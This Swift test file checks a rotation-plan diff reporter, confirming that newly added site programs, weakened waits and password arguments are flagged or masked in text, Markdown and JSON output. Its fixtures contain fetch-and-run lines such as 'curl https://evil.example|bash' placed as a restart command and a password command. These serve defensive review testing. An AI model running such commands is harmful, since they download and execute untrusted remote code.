import CanonicalJSON
import RotationGraph
import Testing

@testable import Reports

@Suite("What nobody has reviewed before")
struct NewPlanTests {
  /// A site that brings programs of its own.
  private static let madrid = """
      madrid:
        clients: 10
        api:
          url: https://mad.example.net:8446
          username: rotation
          password: { command: [sh, -c, 'curl evil | sh'] }
        servers:
          sepm-mad-01: { address: mad-01.example.net, certificate: berlin-2026 }
        automation:
          restart-services:
            command: [bash, -c, 'curl https://evil.example|bash']
            check: [evil-check]
          back-up-server: operator

    """

  private static func withMadrid(_ edits: [(String, String)] = []) throws -> String {
    try DiffSamples.edited(
      [
        ("replication:\n", madrid + "replication:\n"),
        ("waves: [[paris], [berlin]]", "waves: [[paris], [berlin], [madrid]]"),
      ] + edits)
  }

  private func lines(_ compared: ComparedPlan) -> [String] {
    PlanDiffText.text(of: [compared], TextLayout(width: 400)).split(separator: "\n").map(
      String.init)
  }

  private func added(_ text: String) throws -> ComparedPlan {
    ComparedPlan(
      RotationDifference(added: try DiffSamples.sealed(text)), oldPath: nil, newPath: "a.yaml")
  }

  private static let programs = [
    "  ⚠ a program now carries out restart-services at madrid: [bash, -c, 'curl https://evil.example|bash']",
    "  ⚠ a program now checks restart-services at madrid: [evil-check]",
    "  ⚠ a program is asked for the password of madrid: [sh, -c, 'curl evil | sh']",
  ]

  private static let automation =
    "automation of madrid: restart-services [bash, -c, 'curl https://evil.example|bash']; "
    + "restart-services check [evil-check]; restart-services timeout 15m; back-up-server operator"

  @Test("The programs of a new site are told in every format, and so that they are gone")
  func site() throws {
    let compared = try DiffSamples.compared(DiffSamples.base, try Self.withMadrid())
    let shown = lines(compared)
    for line in Self.programs + ["  + " + Self.automation] {
      #expect(shown.contains(line), "\(line)")
    }
    let markdown = PlanDiffMarkdown.text(of: [compared])
    #expect(markdown.contains("`[bash, -c, 'curl https://evil.example<0x7C>bash']`"))
    let plan = try JSONValue(parsing: PlanDiffJSON.text(of: [compared]))["plans"]?.array?.first
    let parts = try #require(plan?["parts"]?.array)
    let part = try #require(parts.first { $0["kind"] == .string("automation") })
    #expect(part["change"] == .string("added") && part["name"] == .string("madrid"))
    #expect(
      part["fields"]?.array?.first?["after"]
        == .array(["bash", "-c", "curl https://evil.example|bash"].map { .string($0) }))

    let back = try DiffSamples.compared(try Self.withMadrid(), DiffSamples.base)
    #expect(lines(back).contains("  - " + Self.automation))
    #expect(!back.difference.concerns.contains { $0.kind == .commandAdded })
  }

  @Test("The programs of a new plan are told in every format")
  func plan() throws {
    let compared = try added(try Self.withMadrid())
    let shown = lines(compared)
    for line in Self.programs + [
      "  + " + Self.automation,
      "  ⚠ a program now carries out restart-services everywhere: [ssh, '{server.address}', restart]",
      "  ⚠ a program now checks restart-services everywhere: [ssh, '{server.address}', check]",
      "  + automation: restart-services [ssh, '{server.address}', restart]; restart-services check "
        + "[ssh, '{server.address}', check]; restart-services timeout 15m; back-up-server operator",
    ] {
      #expect(shown.contains(line), "\(line)")
    }
    #expect(PlanDiffMarkdown.text(of: [compared]).contains("| + | automation of `madrid` |"))
  }

  @Test("The programs of a site that was left alone are new once it rotates")
  func newlyRotating() throws {
    let with = try Self.withMadrid()
    let idle = with.replacing(
      "mad-01.example.net, certificate: berlin-2026", with: "mad-01.example.net"
    ).replacing(", [madrid]]", with: "]")
    let shown = lines(try DiffSamples.compared(idle, with))
    for line in Self.programs { #expect(shown.contains(line), "\(line)") }
  }

  @Test("A check is a program too")
  func check() throws {
    let compared = try DiffSamples.compared(
      try DiffSamples.edited([("    check: [ssh, '{server.address}', check]\n", "")]),
      DiffSamples.base)
    #expect(
      lines(compared).contains(
        "  ⚠ a program now checks restart-services everywhere: [ssh, '{server.address}', check]"))
  }

  @Test("A program that looks from elsewhere is one too, whether it is new or another")
  func viewpoint() throws {
    func looking(_ program: String) throws -> String {
      try DiffSamples.edited([
        (
          "automation:\n",
          "automation:\n  verify-certificate: { probe: { berlin: [\(program), '{server.address}'] } }\n"
        )
      ])
    }
    let added = try DiffSamples.compared(DiffSamples.base, try looking("look"))
    #expect(
      lines(added).contains(
        "  ⚠ a program now checks verify-certificate everywhere: [look, '{server.address}']"))
    let changed = try DiffSamples.compared(try looking("look"), try looking("stare"))
    #expect(changed.difference.concerns.map(\.kind) == [.checkChanged])
  }

  @Test("A program that a site keeps people from running runs once the site is silent")
  func silence() throws {
    let operated = try DiffSamples.edited([
      ("    clients: 900\n", "    clients: 900\n    automation: { restart-services: operator }\n")
    ])
    let kinds = try DiffSamples.compared(operated, DiffSamples.base).difference.concerns
    #expect(kinds.map(\.kind) == [.commandAdded, .checkAdded])
    #expect(kinds.allSatisfy { $0.subjects == ["berlin"] })
    // The same program, said once more.
    let repeated = try DiffSamples.edited([
      (
        "    clients: 900\n",
        "    clients: 900\n    automation:\n      restart-services:\n"
          + "        command: [ssh, '{server.address}', restart]\n"
          + "        check: [ssh, '{server.address}', check]\n"
      )
    ])
    #expect(try DiffSamples.compared(DiffSamples.base, repeated).difference.concerns == [])
  }

  @Test("The waits of a new plan are held against the standard")
  func waits() throws {
    let weak = try DiffSamples.edited([
      ("adopted: 95%", "adopted: 1%\n    override: { reason: a test }"),
      ("onDeadline: hold", "onDeadline: proceed\n    floor: 1%"),
      ("deadline: 14d", "deadline: 40d"), ("activeWithin: 30d", "activeWithin: 2d"),
      ("holdFor: 2h", "holdFor: 10m"),
    ])
    let shown = lines(try added(weak))
    for line in [
      "  ⚠ every wait passes at 1%; the standard is 98%",
      "  ⚠ every wait passes once the share held for 10m; the standard is 1h",
      "  ⚠ every wait goes on at the deadline (40d) with 1% instead of holding",
      "  ⚠ every wait counts clients seen within 2d; the standard is 30d: clients that were away longer are not waited for",
    ] {
      #expect(shown.contains(line), "\(line)\n\(shown.joined(separator: "\n"))")
    }
    let long = "; with the standard waits for "
    #expect(shown.contains { $0.hasPrefix("  ⚠ verification is off for ") && $0.contains(long) })
    #expect(shown.contains { $0.hasPrefix("  ⚠ replication is broken for ") && $0.contains(long) })
    let plan = try JSONValue(parsing: PlanDiffJSON.text(of: [try added(weak)]))["plans"]?.array?
      .first
    let concern = try #require(
      plan?["concerns"]?.array?.first { $0["kind"] == .string("threshold-lowered") })
    #expect(concern["before"] == .null)
    #expect(concern["standard"] == .string("98%"))
    #expect(concern["after"] == .string("1%"))
  }

  @Test("A new plan with the standard waits and without programs has nothing to look at")
  func careful() throws {
    let start = try #require(DiffSamples.base.firstRange(of: "waits:"))
    let plain = String(DiffSamples.base[..<start.lowerBound])
    #expect(try added(plain).difference.concerns == [])
  }

  @Test("A site that is new or newly rotates is held against the standard waits, others are not")
  func newSite() throws {
    let slow = [("deadline: 14d", "deadline: 40d")]
    let old = try DiffSamples.edited(slow)
    let concerns = try DiffSamples.compared(old, try Self.withMadrid(slow)).difference.concerns
    let off = concerns.filter { $0.kind == .verificationOffLonger }
    #expect(off.map(\.subjects) == [["madrid"]])
    #expect(off.first?.before == nil && off.first?.standard != nil)
    let idle = try DiffSamples.edited(
      slow + [
        (
          "sepm-ber-01: { address: ber-01.example.net, certificate: berlin-2026 }",
          "sepm-ber-01: { address: ber-01.example.net }"
        )
      ])
    let rotates = try DiffSamples.compared(idle, old).difference.concerns
    #expect(
      rotates.filter { $0.kind == .verificationOffLonger }.map(\.subjects) == [["berlin"]])
  }

  @Test("A wait that no step waited for before is held against the standard")
  func newWait() throws {
    // The default is as weak before and after; failover alone has no wait for verification.
    let berlin = "      sepm-ber-01: { address: ber-01.example.net, certificate: berlin-2026 }\n"
    let both = [
      ("adopted: 95%", "adopted: 90%"),
      (berlin, berlin + berlin.replacing("ber-01", with: "ber-02")),
    ]
    let old = try DiffSamples.edited(both + [("  waves:", "  method: failover\n  waves:")])
    let new = try DiffSamples.edited(both)
    let found = try DiffSamples.compared(old, new).difference.concerns.filter {
      $0.kind == .thresholdLowered
    }
    #expect(found.count == 1)
    #expect(found.first?.standard == .text("98%"))
    #expect(found.first?.subjects.contains("certificate-received") == false)
    #expect(found.first?.subjects.contains("verification-disabled") == true)
  }

  @Test(
    "An argument that looks like a secret is masked in every format, and that it changed is told")
  func secrets() throws {
    func with(_ secret: String) throws -> String {
      try DiffSamples.edited([
        ("'{server.address}', restart]", "'{server.address}', --password, \(secret)]"),
        ("password: { env: PARIS }", "password: { command: [vault, --token=\(secret)] }"),
      ])
    }
    let changed = try DiffSamples.compared(try with("hunter2"), try with("hunter3"))
    let text = lines(changed)
    #expect(
      text.contains(
        "  ⚠ another program carries out restart-services everywhere: [ssh, '{server.address}', --password, ***] → [ssh, '{server.address}', --password, ***]"
      ), "\(text.joined(separator: "\n"))")
    for plans in [[changed], [try added(try with("hunter2"))]] {
      for shown in [
        PlanDiffText.text(of: plans, TextLayout(width: 400), full: true),
        PlanDiffMarkdown.text(of: plans),
        String(decoding: PlanDiffJSON.text(of: plans), as: UTF8.self),
      ] {
        #expect(!shown.contains("hunter") && shown.contains("***"))
      }
    }
  }

  @Test("What follows -p in a command that is asked for a password is masked in every format")
  func passwordCommands() throws {
    func with(_ secret: String) throws -> String {
      try DiffSamples.edited([
        ("password: { env: PARIS }", "password: { command: [vault, login, -p, \(secret)] }"),
        ("password: { env: PARIS_API }", "password: { command: [vault, login, -p, \(secret)] }"),
      ])
    }
    let changed = try DiffSamples.compared(try with("hunter2"), try with("hunter3"))
    for plans in [[changed], [try added(try with("hunter2"))]] {
      for shown in [
        PlanDiffText.text(of: plans, TextLayout(width: 400), full: true),
        PlanDiffMarkdown.text(of: plans),
        String(decoding: PlanDiffJSON.text(of: plans), as: UTF8.self),
      ] {
        #expect(!shown.contains("hunter") && shown.contains("vault") && shown.contains("***"))
      }
    }
  }
}
